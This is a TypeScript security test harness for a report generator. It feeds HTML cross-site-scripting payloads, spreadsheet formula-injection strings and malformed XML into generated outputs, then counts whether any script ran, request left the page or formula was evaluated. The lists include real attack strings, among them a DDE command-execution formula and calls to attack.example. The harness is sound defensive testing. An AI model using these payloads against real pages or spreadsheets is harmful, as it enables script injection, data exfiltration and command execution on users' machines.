import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { parse } from 'csv-parse/sync';
import { type Browser, chromium } from 'playwright-core';
import { analyze } from '../../src/analyze.js';
import { datasetFromRows } from '../../src/ingest/dataset-from-rows.js';
import { guardCell, toCsv, unguardCell } from '../../src/outputs/csv/csv.js';
import { makeOutputs } from '../../src/outputs/registry.js';
import { createRandom } from '../../src/random.js';

/** What was tried, and what an attack achieved: all but the tries must be 0. */
export interface AttackCounts {
  /** Payloads times places in the report. */
  placed: number;
  scripts: number;
  requests: number;
  /** Complaints of the content security policy: something tried to run or load. */
  complaints: number;
  /** Elements in the page that our templates do not make. */
  foreignElements: number;
  formulaCells: number;
  /** Formula cells that LibreOffice computed; undefined where it is not installed. */
  evaluated: number | undefined;
  notRoundTripped: number;
  gexfFiles: number;
  /** GEXF files that xmllint or Python's expat, both strict, do not take; undefined where neither is installed. */
  badXml: number | undefined;
}

/** Texts that have broken out of pages elsewhere. `window.hit` tells whether one ran. */
export const payloads: readonly string[] = [
  ...['script', 'SCRIPT', 'sCrIpT'].map((tag) => `<${tag}>window.hit=1</${tag}>`),
  '</script><script>window.hit=1</script>',
  '</style><script>window.hit=1</script>',
  '</title><script>window.hit=1</script>',
  '</textarea><script>window.hit=1</script>',
  '<!--<script>window.hit=1</script>',
  '--><script>window.hit=1</script>',
  ']]><script>window.hit=1</script>',
  '<![CDATA[<script>window.hit=1</script>]]>',
  '"><script>window.hit=1</script>',
  "'><script>window.hit=1</script>",
  '" onmouseover="window.hit=1" x="',
  "' onfocus='window.hit=1' autofocus='",
  '`onload=window.hit=1`',
  '<img src=x onerror=window.hit=1>',
  '<img src=http://attack.example/a.png>',
  '<svg onload=window.hit=1>',
  '<svg><script>window.hit=1</script></svg>',
  '<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>',
  '<math><mtext></mtext><mglyph><style></math><img src onerror=window.hit=1>',
  '<iframe src="javascript:window.hit=1"></iframe>',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<object data="javascript:window.hit=1">',
  '<embed src="http://attack.example/b">',
  '<link rel=stylesheet href=http://attack.example/c.css>',
  '<style>@import "http://attack.example/d.css";</style>',
  '<base href="http://attack.example/">',
  '<meta http-equiv=refresh content="0;url=http://attack.example/e">',
  '<form action=http://attack.example/f><input autofocus onfocus=window.hit=1>',
  '<details open ontoggle=window.hit=1>',
  '<video><source onerror=window.hit=1></video>',
  '<a href="javascript:window.hit=1">x</a>',
  '<body onload=window.hit=1>',
  '<template><script>window.hit=1</script></template>',
  '&lt;script&gt;window.hit=1&lt;/script&gt;',
  ['$', '{window.hit=1}{{window.hit=1}}'].join(''),
  '\u2028</script><script>window.hit=1</script>\u2029',
  '\u202e<script>window.hit=1</script>',
];

/** Cells that a spreadsheet computes; 4711 + 1 shows that it did. */
export const formulas: readonly string[] = [
  '=4711+1',
  '+4711+1',
  '-4711+1+9422',
  '@SUM(4711,1)',
  '=SUM(4711;1)',
  '=HYPERLINK("http://attack.example";4711+1)',
  '=WEBSERVICE("http://attack.example/"&4711+1)',
  "=cmd|' /C calc'!A0",
  '=DDE("soffice";"x";"y")',
  '=IMPORTXML("http://attack.example")',
  '\t=4711+1',
  '\r=4711+1',
  '\n=4711+1',
  ' =4711+1',
  '"=4711+1',
  "'=4711+1",
  '\uff1d4711+1',
  '\uff0b4711+1',
  '\u200b=4711+1',
  '\0=4711+1',
];

const PLACES = 12;

/** Places: ids, names, firms, units, levels, locations, kinds, role ids, role titles, skills, idea titles, attributes. */
export async function attackReports(chosen: readonly string[], counts: AttackCounts): Promise<void> {
  const executablePath = process.env['CHROMIUM_PATH'] ?? '/usr/bin/chromium';
  const browser = await chromium.launch({ executablePath, args: ['--no-sandbox', '--disable-gpu'] });
  const folder = mkdtempSync(join(tmpdir(), 'orgraph-attack-'));
  try {
    const plain = await elementsOf(browser, folder, await reportWith('plain text'), undefined);
    for (const payload of chosen) {
      counts.placed += PLACES;
      const found = await elementsOf(browser, folder, await reportWith(payload), counts);
      for (const [name, number] of found) counts.foreignElements += Number(number > 0 && !plain.has(name));
    }
  } finally {
    await browser.close();
    rmSync(folder, { recursive: true, force: true });
  }
}

async function outputsWith(texts: (place: string) => string): Promise<Map<string, string>> {
  const ids = Array.from({ length: 24 }, (_, at) => (at === 0 ? texts('id') : `p${at}`));
  const people = ids.map((id, at) => ({
    person_id: id,
    name: texts('name'),
    firm: at < 12 ? texts('firm') : 'other firm',
    unit: at % 2 === 0 ? texts('unit') : 'other unit',
    level: texts('level'),
    location: texts('location'),
    skills: texts('skill').replaceAll(/[;:]/g, ' '),
    interests: 'safety',
    hours_available: '4',
    remark: texts('attribute'),
    ...(at > 3 ? { manager_id: ids[Math.floor(at / 4)]! } : {}),
  }));
  const interactions = ids.flatMap((source, at) =>
    [1, 2, 7].map((step) => ({ source, target: ids[(at + step) % 24]!, kind: texts('kind') })),
  );
  const roles = [{ role_id: texts('role'), title: texts('title'), topics: 'safety', seats: '1' }];
  const ideas = [{ idea_id: 'i1', owner_id: 'p5', title: texts('idea'), status: 'vetted' }];
  const dataset = datasetFromRows({ people, interactions, roles, ideas });
  const analysis = await analyze(
    dataset,
    { draws: 20, permutations: 99, by: ['firm', 'unit', 'location'] },
    { threads: 1 },
  );
  return makeOutputs(analysis, { showNames: true, showValues: true });
}

async function reportWith(payload: string): Promise<string> {
  return (await outputsWith(() => payload)).get('report.html')!;
}

/** Opens a page and waits; gives how many elements of each kind it has, and of each attribute that could run. */
async function elementsOf(
  browser: Browser,
  folder: string,
  page: string,
  counts: AttackCounts | undefined,
): Promise<Map<string, number>> {
  const path = join(folder, 'report.html');
  writeFileSync(path, page);
  const tab = await browser.newPage();
  const url = pathToFileURL(path).href;
  tab.on('request', (request) => {
    if (counts !== undefined && request.url() !== url && !request.url().startsWith('data:'))
      counts.requests++;
  });
  tab.on('console', (message) => {
    if (counts !== undefined && /content security policy/i.test(message.text())) counts.complaints++;
  });
  tab.on('dialog', (dialog) => {
    if (counts !== undefined) counts.scripts++;
    void dialog.dismiss();
  });
  await tab.goto(url);
  await tab.evaluate(() => {
    for (const element of document.querySelectorAll('a, details, th, button, [tabindex]'))
      element.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
  });
  await tab.waitForTimeout(50);
  const { hit, names } = await tab.evaluate(() => ({
    hit: 'hit' in window,
    names: [...document.querySelectorAll('*')].flatMap((element) => [
      element.localName,
      ...element.getAttributeNames().filter((name) => name.startsWith('on')),
    ]),
  }));
  if (counts !== undefined && hit) counts.scripts++;
  await tab.close();
  const found = new Map<string, number>();
  for (const name of names) found.set(name, (found.get(name) ?? 0) + 1);
  return found;
}

/** Formulas in every column of text, written by us, opened in LibreOffice and read back by ourselves. */
export async function attackSpreadsheets(counts: AttackCounts): Promise<void> {
  const columns = ['person_id', 'name', 'firm', 'unit', 'level', 'role_title', 'kind', 'found'];
  const table = toCsv(
    columns.map((header, at) => ({ header, cell: (row: number) => formulas[(row + at) % formulas.length] })),
    [...formulas.keys()],
  );
  counts.formulaCells += formulas.length * columns.length;
  const rows = parse(table) as string[][];
  for (const [row, cells] of rows.slice(1).entries())
    for (const [at, cell] of cells.entries()) {
      const wanted = formulas[(row + at) % formulas.length]!;
      if (unguardCell(cell) !== wanted || guardCell(wanted) !== cell) counts.notRoundTripped++;
    }
  if (spawnSync('soffice', ['--version']).status !== 0) return;
  const folder = mkdtempSync(join(tmpdir(), 'orgraph-sheet-'));
  writeFileSync(join(folder, 'cells.csv'), table);
  // Once with formulas allowed as a user may set it, whatever the default of the version: token 9 evaluates them.
  const filter = 'CSV:44,34,76,1,,0,false,true,false,false,false,-1,true';
  const ran = spawnSync(
    'soffice',
    [
      '--headless',
      `-env:UserInstallation=file://${folder}/profile`,
      `--infilter=${filter}`,
      '--convert-to',
      'fods',
      '--outdir',
      folder,
      join(folder, 'cells.csv'),
    ],
    { encoding: 'utf8', timeout: 180_000 },
  );
  const sheet = existsSync(join(folder, 'cells.fods'))
    ? readFileSync(join(folder, 'cells.fods'), 'utf8')
    : '';
  rmSync(folder, { recursive: true, force: true });
  if (!sheet.includes('4711')) throw new Error(`LibreOffice made no sheet: ${ran.stderr}`);
  counts.evaluated = (sheet.match(/table:formula=/g) ?? []).length + (sheet.match(/>4712</g) ?? []).length;
}

/** Graphs of people and groups with hostile names, read by a strict XML parser. */
export async function attackGraphs(sets: number, seed: number, counts: AttackCounts): Promise<void> {
  const random = createRandom(seed, 'gexf');
  const pieces = [
    '\u0001',
    '\u0000',
    '\ud800',
    '\udfff',
    ']]>',
    '<![CDATA[',
    '<!--',
    '--',
    '&#0;',
    '&amp',
    '<?xml?>',
    '"',
    "'",
    '\ufffe',
    '\uffff',
    '\u{1f600}',
    '\t',
    '\r',
    '\n',
    'a',
    'ß',
    '\u202e',
    '<',
    '>',
    '&',
    '=',
  ];
  const texts: string[] = [];
  for (let set = 0; set < sets; set++) {
    const drawn = new Map<string, string>();
    const outputs = await outputsWith((place) => {
      const text =
        drawn.get(place) ??
        Array.from({ length: 1 + random.below(6) }, () => pieces[random.below(pieces.length)]!).join('') +
          place;
      drawn.set(place, text);
      return text;
    });
    texts.push(outputs.get('graph.gexf')!);
  }
  counts.gexfFiles += texts.length;
  const folder = mkdtempSync(join(tmpdir(), 'orgraph-gexf-'));
  const paths = texts.map((text, at) => {
    const path = join(folder, `${at}.gexf`);
    writeFileSync(path, text);
    return path;
  });
  const program =
    'import sys, xml.parsers.expat as x\nbad = 0\nfor p in sys.argv[1:]:\n try: x.ParserCreate().ParseFile(open(p, "rb"))\n except x.ExpatError: bad += 1\nprint(bad)';
  const ran = spawnSync('python3', ['-c', program, ...paths], { encoding: 'utf8' });
  rmSync(folder, { recursive: true, force: true });
  if (ran.status === 0) counts.badXml = (counts.badXml ?? 0) + Number(ran.stdout.trim());
}

export function noAttacks(): AttackCounts {
  return {
    placed: 0,
    scripts: 0,
    requests: 0,
    complaints: 0,
    foreignElements: 0,
    formulaCells: 0,
    evaluated: undefined,
    notRoundTripped: 0,
    gexfFiles: 0,
    badXml: undefined,
  };
}
